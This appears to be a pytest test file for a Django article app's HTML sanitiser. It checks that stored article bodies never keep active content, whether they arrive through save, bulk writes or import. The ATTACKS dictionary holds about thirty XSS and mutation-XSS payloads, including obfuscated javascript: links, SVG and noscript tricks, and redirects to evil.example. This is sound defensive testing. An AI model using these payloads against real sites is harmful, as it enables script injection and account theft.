"""Nothing that runs, and no picture from elsewhere, is ever stored – whichever way the text comes in."""

import re
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest

from articles.import_export.importer import import_article
from articles.models import Article, Category
from articles.rich_text import picture_problems, sanitise

ATTACKS = {
    "脚本": "<script>alert(1)</script>",
    "大小写混写的脚本": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "事件属性": '<p onclick="alert(1)">点我</p>',
    "图片出错事件": "<img src=x onerror=alert(1)>",
    "自家图片带事件": '<img src="/media/a.webp" alt="a" onload="alert(1)">',
    "脚本链接": '<a href="javascript:alert(1)">a</a>',
    "实体写的脚本链接": '<a href="&#106;avascript:alert(1)">a</a>',
    "换行拆开的脚本链接": '<a href="java\nscript:alert(1)">a</a>',
    "制表符拆开的脚本链接": '<a href="jav&#x09;ascript:alert(1)">a</a>',
    "数据链接": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "数据图片": '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="a">',
    "外站图片": '<img src="https://evil.example/x.png" alt="a">',
    "无协议的外站图片": '<img src="//evil.example/x.png" alt="a">',
    "爬出媒体目录的图片": '<img src="/media/../admin/logout/" alt="a">',
    "编码后爬出媒体目录": '<img src="/media/%2e%2e/admin/" alt="a">',
    "矢量图": "<svg><script>alert(1)</script></svg>",
    "矢量图事件": "<svg/onload=alert(1)>",
    "公式里的样式": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "内嵌页": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "对象": '<object data="data:text/html,x"></object><embed src="x">',
    "表单": '<form action="https://evil.example"><input name="p"></form>',
    "样式": '<p style="background:url(javascript:alert(1))">a</p>',
    "样式块": "<style>@import '//evil.example';</style>",
    "基准地址": '<base href="https://evil.example/">',
    "跳转": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "模板": "<template><script>alert(1)</script></template>",
    "注释里的脚本": "<!--><script>alert(1)</script>-->",
    "没关的标签": "<img src=x onerror=alert(1)//",
    "引号逃逸": '<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">a</a>',
    "冒用类名": '<blockquote class="admin-only tip">a</blockquote>',
    "冒用锚点": '<p id="csrfmiddlewaretoken" name="x">a</p>',
    "无脚本突变": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
}
HARMLESS_TAGS = {"p", "h2", "h3", "strong", "em", "br", "hr", "ul", "ol", "li", "blockquote", "a"}
HARMLESS_TAGS |= {"sup", "sub", "table", "tbody", "thead", "tr", "th", "td", "figure", "figcaption", "img"}
HARMLESS_ATTRIBUTES = {"href", "rel", "title", "src", "alt", "width", "height", "rowspan", "colspan", "class", "start"}
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:")


class Inspector(HTMLParser):
    """Collects whatever in a text could run, load or pose as part of the page."""

    def __init__(self):
        super().__init__()
        self.faults = []

    def handle_starttag(self, tag, attrs):
        if tag not in HARMLESS_TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            if name not in HARMLESS_ATTRIBUTES or not self.is_fine(name, value or ""):
                self.faults.append((tag, name, value))

    def is_fine(self, name, value):
        url = re.sub(r"[\x00-\x20]", "", value).lower()
        if name == "src":
            return url.startswith("/media/") and ".." not in unquote(url)
        if name == "class":
            return value in {"tip", "warning"}
        return name != "href" or not SCHEME.match(url) or url.startswith(("http:", "https:", "mailto:", "tel:"))


@pytest.fixture
def category(db):
    return Category.objects.create(name="健康新闻")


def is_harmless(html):
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults == []


@pytest.mark.parametrize(
    "attack", ["<script>1</script>", "<p onclick=x>", "<a href=' java\nscript:x'>", "<img src=/media/../a>"]
)
def test_the_inspector_of_this_test_sees_what_is_live(attack):
    assert not is_harmless(attack)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_does_not_survive_the_sanitiser(attack):
    assert is_harmless(sanitise(f"<p>前文</p>{attack}"))


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_sanitising_twice_changes_nothing_more(attack):
    once = sanitise(attack)

    assert sanitise(once) == once


def through_save(category, html):
    Article.objects.create(title="甲", category=category, body=html)


def through_a_second_save(category, html):
    article = Article.objects.create(title="甲", category=category, body="<p>好</p>")
    article.body = html
    article.save(update_fields=["body"])


def through_update(category, html):
    Article.objects.create(title="甲", category=category, body="<p>好</p>")
    Article.objects.update(body=html)


def through_bulk_create(category, html):
    Article.objects.bulk_create([Article(title="甲", slug="a", category=category, body=html)])


def through_bulk_update(category, html):
    article = Article.objects.create(title="甲", category=category, body="<p>好</p>")
    article.body = html
    Article.objects.bulk_update([article], ["body"])


def through_import(category, html):
    import_article(f'+++\ntitle = "甲"\ncategory = "健康新闻"\n+++\n\n好\n\n{html}\n')


WAYS = [
    through_save,
    through_a_second_save,
    through_update,
    through_bulk_create,
    through_bulk_update,
    through_import,
]


@pytest.mark.parametrize("way", WAYS)
def test_no_way_into_the_database_lets_an_attack_in(category, way):
    way(category, "".join(ATTACKS.values()))

    assert is_harmless(Article.objects.get().body)


def test_what_the_editor_makes_is_kept():
    html = (
        '<h2>标题</h2><p><strong>粗</strong><em>斜</em><br><a href="/articles/a/">内链</a></p>'
        '<blockquote class="tip"><p>提示</p></blockquote>'
        '<table><tbody><tr><th>甲</th><td colspan="2">乙</td></tr></tbody></table>'
        '<figure><img src="/media/a.webp" alt="图"><figcaption>说明</figcaption></figure>'
    )

    assert sanitise(html) == html


def test_a_figure_whose_picture_is_refused_goes_whole():
    html = '<p>文</p><figure><img src="https://evil.example/a.png" alt="x"><figcaption>说明</figcaption></figure>'

    assert sanitise(html) == "<p>文</p>"


def test_only_blank_paragraphs_are_an_empty_text():
    assert sanitise("<p></p><p> </p>") == ""


@pytest.mark.parametrize("picture", ['<img src="/media/a.webp">', '<img src="/media/a.webp" alt="  ">'])
def test_a_picture_without_words_is_a_problem(picture):
    assert "替代文字" in picture_problems(picture)[0]


def test_a_picture_with_words_is_none():
    assert picture_problems('<img src="/media/a.webp" alt="医保码">') == []
